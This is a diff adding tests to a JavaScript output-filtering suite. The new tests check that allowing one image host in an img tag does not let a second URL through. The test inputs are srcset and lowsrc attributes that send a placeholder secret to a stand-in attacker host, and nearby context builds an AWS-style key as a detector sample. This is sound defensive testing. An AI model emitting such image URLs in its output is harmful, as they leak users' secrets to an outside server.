@@ -154,6 +154,14 @@ test.each([
   expect(printed(text, [...profiles, allow([])]).stdout).not.toBe(text);
 });
 
+test.each([
+  'srcset="https://img.example.com/x?d=AAAAAAAA 1x, https://evil.example/c?d=SECRET_GOES_HERE 2x"',
+  'src="https://img.example.com/x?d=AAAAAAAA" lowsrc="https://evil.example/c?d=SECRET_GOES_HERE"',
+])('one allowed host does not speak for the others of its tag: %s', (attributes) => {
+  const text = `<img ${attributes}>`;
+  expect(printed(text, [allow(['img.example.com'])]).stdout).not.toContain('https://evil.example/c?d=SECRET');
+});
+
 test('an exact text is harmless for one detector, and nothing around it', () => {
   const example = ['AKIA', 'IOSFODNN7', 'QWERTYU'].join('');
   const other = ['AKIA', 'IOSFODNN7', 'QWERTYV'].join('');
